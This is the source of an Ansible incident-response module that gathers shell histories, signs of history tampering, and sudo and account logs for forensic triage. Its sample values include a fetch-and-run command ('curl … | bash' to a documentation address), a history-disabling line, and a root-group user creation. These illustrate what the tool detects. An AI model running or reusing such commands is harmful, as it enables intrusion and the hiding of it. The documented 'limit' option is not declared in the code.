#!/usr/bin/python
# Copyright (c) 2026, the incident.response contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Facts about what was typed on a host, and what sudo recorded."""

DOCUMENTATION = r"""
---
module: history_facts
short_description: Facts about what was typed, and what sudo recorded
version_added: 0.1.0
author:
  - The incident.response contributors (@incident-response)
description:
  - Returns the histories of shells (C(bash), C(zsh), C(fish), C(ksh93), C(mksh), C(ash), C(tcsh)) and of clients (C(python), C(mysql), C(psql),
    C(sqlite3), C(redis-cli), C(node), C(mongosh), C(irb), C(gdb), C(lftp), C(less), C(vim), C(nvim), C(wget)) of every account, service accounts
    and homes without an account included, with the time of each command where the file has it.
  - History files that start-up files or the environments of live processes name are read as well, and copies beside those that are known.
  - Returns signs that history is not, or not truly, recorded, such as a link in its place, a start-up file or an environment that
    switches it off, and times that cannot be.
  - Returns the uses of sudo, executed and denied, and the events of C(su), C(passwd), C(useradd) and their kin, from the journal
    and from the logs with those that were rotated and compressed, each with how far it can be trusted.
  - Answers what C(less ~/.bash_history), C(su -l USER) with C(history), and C(journalctl -e _COMM=sudo) are typed for.
extends_documentation_fragment:
  - incident.response.attributes
  - incident.response.facts
options:
  users:
    description:
      - Read only the histories of these accounts, by name or uid, and return only events that name them or that they wrote.
      - What concerns all accounts, such as a start-up file of the host, is returned as well.
    type: list
    elements: str
notes:
  - The journal is read through the C(journalctl) of the host, which is started only from a path that nobody but root can write to, and
    is ended after 10 seconds. No other program is started. Start-up files are read and never run; what only a shell could fill in is said in
    C(errors).
  - Of a live process the environment that it was started with is read. What a shell set or unset since then is not seen from outside.
  - Below a home no link is followed. Of a history file at most its newest 4 MiB are read, of all of them 32 MiB; C(limits) says where
    that was not everything. When there are more commands than O(limit), the newest of each file are kept.
seealso:
  - module: incident.response.session_facts
  - module: incident.response.triage_facts
"""

EXAMPLES = r"""
- name: See what one account typed and did with sudo
  incident.response.history_facts:
    users: mallory

- name: Read all histories, up to the newest 20000 commands
  incident.response.history_facts:
    limit: 20000
"""

RETURN = r"""
---
ansible_facts:
  description: Facts to add to the facts of the host.
  returned: always
  type: dict
  contains:
    incident_history:
      returned: always
      description: What was typed, and what sudo recorded.
      type: dict
      contains:
        each_item:
          description: A line somebody typed. This describes each record of the list C(items), which Jinja reaches
            as C(incident_history['items']).
          returned: as the records of C(items)
          type: dict
          contains:
            user:
              description: Account whose home holds the file; null for a home without an account.
              returned: success
              type: str
              sample: mallory
            uid:
              description: Uid of the account.
              returned: success
              type: int
              sample: 1001
            program:
              description: 'What wrote the file: C(bash), C(zsh), C(fish), C(python), C(mysql), C(less), C(vim)
                …'
              returned: success
              type: str
              sample: bash
            file:
              description: Path of the file.
              returned: success
              type: str
              sample: /home/mallory/.bash_history
            line:
              description: Line of the file where the entry begins, from 1. When the file was cut, counted from
                the cut. Of a file without lines (C(mksh), C(nvim)) the number of the entry.
              returned: success
              type: int
              sample: 12
            at:
              description: When, where the file says so; never guessed.
              returned: success
              type: str
              sample: '2026-11-23T15:01:07Z'
            duration:
              description: How long it ran, where the file says so. In seconds.
              returned: success
              type: float
              sample: 0.0
            command:
              description: The command, with its newlines.
              returned: success
              type: str
              sample: curl -s http://192.0.2.1/x.sh | bash
            raw:
              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
              returned: when there is something to say
              type: dict
              sample:
                name: //4=
            clipped:
              description: Names of the fields that were cut at their limit.
              returned: when there is something to say
              type: list
              elements: str
              sample:
              - argv
        homes:
          description: A directory in which histories were looked for.
          returned: success
          type: list
          elements: dict
          contains:
            path:
              description: Path, as passwd(5) has it.
              returned: success
              type: str
              sample: /home/mallory
            user:
              description: Account for which it was read; null for a home that was left without an account.
              returned: success
              type: str
              sample: mallory
            uid:
              description: Uid of that account.
              returned: success
              type: int
              sample: 1001
            accounts:
              description: All accounts that have it.
              returned: success
              type: list
              elements: str
              sample:
              - mallory
            owner_uid:
              description: Uid of its owner.
              returned: success
              type: int
              sample: 1001
            link_target:
              description: Where it leads to, if it is a link.
              returned: success
              type: str
              sample: /srv/home/mallory
            raw:
              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
              returned: when there is something to say
              type: dict
              sample:
                name: //4=
            clipped:
              description: Names of the fields that were cut at their limit.
              returned: when there is something to say
              type: list
              elements: str
              sample:
              - argv
        files:
          description: A history file, whether or not it could be read.
          returned: success
          type: list
          elements: dict
          contains:
            user:
              description: Account whose home holds it.
              returned: success
              type: str
              sample: mallory
            uid:
              description: Uid of the account.
              returned: success
              type: int
              sample: 1001
            program:
              description: What writes it.
              returned: success
              type: str
              sample: bash
            path:
              description: Path.
              returned: success
              type: str
              sample: /home/mallory/.bash_history
            kind:
              description: C(file), C(link), C(fifo), C(directory) …
              returned: success
              type: str
              sample: file
            link_target:
              description: Where a link points to.
              returned: success
              type: str
              sample: /dev/null
            owner_uid:
              description: Uid of its owner.
              returned: success
              type: int
              sample: 1001
            mode:
              description: Permissions, octal.
              returned: success
              type: str
              sample: '0600'
            size:
              description: Size. In bytes.
              returned: success
              type: int
              sample: 512
            read_from:
              description: Where in the file reading began; not 0 when only its end was read. Null when it was not
                read. In bytes.
              returned: success
              type: int
              sample: 0
            modified_at:
              description: When its content last changed.
              returned: success
              type: str
              sample: '2026-11-23T15:01:07Z'
            changed_at:
              description: When its inode last changed.
              returned: success
              type: str
              sample: '2026-11-23T15:01:07Z'
            is_immutable:
              description: Whether the immutable or append-only attribute is set (chattr(1)). Null when it was not
                read.
              returned: success
              type: bool
              sample: false
            entries:
              description: Entries found.
              returned: success
              type: int
              sample: 12
            raw:
              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
              returned: when there is something to say
              type: dict
              sample:
                name: //4=
            clipped:
              description: Names of the fields that were cut at their limit.
              returned: when there is something to say
              type: list
              elements: str
              sample:
              - argv
        tampering:
          description: A sign that history is not, or not truly, recorded.
          returned: success
          type: list
          elements: dict
          contains:
            user:
              description: Account concerned; null for all of them.
              returned: success
              type: str
              sample: mallory
            uid:
              description: Uid of the account.
              returned: success
              type: int
              sample: 1001
            sign:
              description: 'C(linked_away): a link stands there. C(not_a_file): a fifo, a directory … C(empty):
                of a shell, in a home older than a day. C(immutable): it cannot be changed, or only be added to.
                C(switched_off): by a start-up file or an environment. C(client_switched_off): of a client such
                as C(mysql), by a start-up file. C(time_backwards), as also several shells at a time make. C(time_in_future).
                C(not_owner): it belongs to somebody else. C(writable_by_all), C(read_only): by its mode. C(not_text):
                it holds bytes that no shell writes. C(changed_before_content): its last change is older than its
                newest command.'
              returned: success
              type: str
              sample: switched_off
            where:
              description: File and line, or process.
              returned: success
              type: str
              sample: /home/mallory/.bashrc:118
            path:
              description: The file.
              returned: success
              type: str
              sample: /home/mallory/.bashrc
            line:
              description: The line, from 1.
              returned: success
              type: int
              sample: 118
            pid:
              description: The process whose environment says so.
              returned: success
              type: int
              sample: 4242
            detail:
              description: What stands there.
              returned: success
              type: str
              sample: set +o history
            at:
              description: When the file last changed, or the process started.
              returned: success
              type: str
              sample: '2026-11-23T15:01:07Z'
            raw:
              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
              returned: when there is something to say
              type: dict
              sample:
                name: //4=
            clipped:
              description: Names of the fields that were cut at their limit.
              returned: when there is something to say
              type: list
              elements: str
              sample:
              - argv
        sudo_events:
          description: A use of sudo.
          returned: success
          type: list
          elements: dict
          contains:
            at:
              description: When, by the record.
              returned: success
              type: str
              sample: '2026-11-23T15:01:07Z'
            user:
              description: Who called sudo.
              returned: success
              type: str
              sample: alice
            run_as:
              description: As whom.
              returned: success
              type: str
              sample: root
            run_as_group:
              description: With which group.
              returned: success
              type: str
              sample: adm
            terminal:
              description: Terminal; null for none.
              returned: success
              type: str
              sample: pts/0
            cwd:
              description: Directory.
              returned: success
              type: str
              sample: /home/alice
            command:
              description: Command.
              returned: success
              type: str
              sample: /usr/bin/id
            is_ambiguous:
              description: Whether C(cwd) and C(command) could be told apart in several ways, since one of them
                holds what looks like fields of sudo.
              returned: success
              type: bool
              sample: false
            runs_shell:
              description: 'Whether the command is a shell or C(su): what was done in it is not recorded here.'
              returned: success
              type: bool
              sample: false
            result:
              description: C(executed) or C(denied).
              returned: success
              type: str
              sample: executed
            reason:
              description: Why it was denied.
              returned: success
              type: str
              sample: 3 incorrect password attempts
            is_configuration_management:
              description: Whether it has the form of Ansible's own become.
              returned: success
              type: bool
              sample: false
            source:
              description: C(journal), or the path of the log.
              returned: success
              type: str
              sample: journal
            trust:
              description: 'C(kernel): the journal''s C(_UID), which the kernel sets, is root''s, or that of the
                account that the line names as its caller while the writer had capabilities that only a setuid program
                gave it: it says who called. C(forgeable): a log that anybody can write to, or a line that the named
                account may have written itself. C(forged): by C(_UID) neither root nor the account that the line
                names wrote it, and no record says that the account has been given another uid since. Who could
                write the line is certain wherever C(writer_uid) is known; that it tells the truth is not: journald
                looks up capabilities after the fact, so a sudo that ended at once may read C(forgeable).'
              returned: success
              type: str
              sample: kernel
            writer_uid:
              description: Real uid that wrote the record, where the journal knows; of sudo that of its caller.
              returned: success
              type: int
              sample: 1001
            line:
              description: Line of the log, from 1. When the log was cut, counted from the cut.
              returned: success
              type: int
              sample: 7
            year_inferred:
              description: Whether the log gives no year, so that C(at) has the one that fits its last change.
              returned: success
              type: bool
              sample: false
            raw:
              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
              returned: when there is something to say
              type: dict
              sample:
                name: //4=
            clipped:
              description: Names of the fields that were cut at their limit.
              returned: when there is something to say
              type: list
              elements: str
              sample:
              - argv
        account_events:
          description: What the programs that change accounts, or become another one, recorded; of sudo what is
            not about a command.
          returned: success
          type: list
          elements: dict
          contains:
            at:
              description: When, by the record.
              returned: success
              type: str
              sample: '2026-11-23T15:01:07Z'
            program:
              description: C(su), C(sudo), C(useradd), C(usermod), C(passwd), C(groupadd) …
              returned: success
              type: str
              sample: useradd
            action:
              description: C(user_added), C(user_deleted), C(user_changed), C(password_changed), C(password_locked),
                C(password_unlocked), C(group_added), C(group_deleted), C(group_changed), C(member_added), C(member_removed),
                C(switched) to another account or group, C(authentication), C(session_opened), C(session_closed)
                or C(command); null for a line of another form.
              returned: success
              type: str
              sample: user_added
            result:
              description: C(success) or C(failure); null where C(action) is.
              returned: success
              type: str
              sample: success
            user:
              description: 'Account concerned, where the line names it: of su the one that was to be become.'
              returned: success
              type: str
              sample: butter
            by:
              description: Account that did it, where the line names it.
              returned: success
              type: str
              sample: mallory
            by_uid:
              description: Uid that did it, where the line names it.
              returned: success
              type: int
              sample: 1001
            terminal:
              description: Terminal, where the line names one.
              returned: success
              type: str
              sample: pts/0
            group:
              description: Group concerned.
              returned: success
              type: str
              sample: sudo
            uid:
              description: Uid that the account was given.
              returned: success
              type: int
              sample: 1002
            gid:
              description: Gid that the account or group was given.
              returned: success
              type: int
              sample: 0
            home:
              description: Home directory that the account was given.
              returned: success
              type: str
              sample: /root
            shell:
              description: Shell that the account was given.
              returned: success
              type: str
              sample: /bin/bash
            attribute:
              description: What of an account or group was changed, in the words of the program.
              returned: success
              type: str
              sample: shell
            before:
              description: What it was before, where the line names it.
              returned: success
              type: str
              sample: /usr/sbin/nologin
            after:
              description: What it became, where the line names it.
              returned: success
              type: str
              sample: /bin/bash
            command:
              description: Command that pkexec or doas ran or refused.
              returned: success
              type: str
              sample: /usr/bin/id
            message:
              description: The line.
              returned: success
              type: str
              sample: 'new user: name=butter, UID=1002, GID=0'
            source:
              description: C(journal), or the path of the log.
              returned: success
              type: str
              sample: journal
            trust:
              description: As for sudo events; of what only root can run, a line that a plain account wrote is C(forged).
              returned: success
              type: str
              sample: kernel
            writer_uid:
              description: Real uid that wrote the record, where the journal knows.
              returned: success
              type: int
              sample: 0
            line:
              description: Line of the log, from 1. When the log was cut, counted from the cut.
              returned: success
              type: int
              sample: 7
            year_inferred:
              description: As for sudo events.
              returned: success
              type: bool
              sample: false
            raw:
              description: Base64 of the bytes of each field whose bytes are not valid UTF-8.
              returned: when there is something to say
              type: dict
              sample:
                name: //4=
            clipped:
              description: Names of the fields that were cut at their limit.
              returned: when there is something to say
              type: list
              elements: str
              sample:
              - argv
        errors:
          description: What could not be read, and why.
          returned: success
          type: list
          elements: dict
          sample: []
          contains:
            what:
              description: What could not be read.
              returned: success
              type: str
              sample: process executable
            reason:
              description: Why.
              returned: success
              type: str
              sample: Permission denied
            count:
              description: How often.
              returned: success
              type: int
              sample: 12
            subjects:
              description: The first few things concerned.
              returned: success
              type: list
              elements: str
              sample:
              - pid 4242
        truncated:
          description: Whether a limit was reached.
          returned: success
          type: bool
          sample: false
        limits:
          description: The limits that were reached.
          returned: success
          type: list
          elements: dict
          sample: []
          contains:
            what:
              description: The list that was cut.
              returned: success
              type: str
              sample: items
            limit:
              description: The limit.
              returned: success
              type: int
              sample: 5000
            total:
              description: How many there were.
              returned: success
              type: int
              sample: 6123
        collected_at:
          description: When this section was read, by the clock of the target.
          returned: success
          type: str
          sample: '2026-11-23T15:45:00Z'
        seconds:
          description: How long reading it took. In seconds.
          returned: success
          type: float
          sample: 0.042
"""

from ansible_collections.incident.response.plugins.module_utils._collect.history import collect
from ansible_collections.incident.response.plugins.module_utils._facts_module import run_section


def main() -> None:
    """Run the module."""
    run_section(key="incident_history", collect=collect, options={"users": {"type": "list", "elements": "str"}})


if __name__ == "__main__":
    main()
